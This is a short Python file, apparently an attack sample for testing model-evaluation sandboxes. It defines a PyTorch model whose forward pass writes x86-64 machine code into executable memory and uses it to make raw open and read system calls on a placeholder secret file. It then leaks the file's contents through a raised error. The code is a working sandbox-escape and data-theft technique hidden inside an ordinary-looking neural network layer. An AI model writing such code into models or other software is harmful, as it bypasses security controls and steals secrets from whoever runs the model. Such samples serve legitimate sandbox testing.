"""Writes machine code into executable memory and makes the system call from there (x86-64)."""

import ctypes
import mmap

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        memory = mmap.mmap(-1, 4096, prot=7)
        memory.write(bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c80f05c3"))
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(address)
        path, text = ctypes.create_string_buffer(b"@SECRET_FILE@"), ctypes.create_string_buffer(99)
        descriptor = call(2, ctypes.addressof(path), 0, 0)
        call(0, descriptor, ctypes.addressof(text), 98)
        raise ValueError(text.value.decode())
        # end
        return self.head(x.flatten(1))
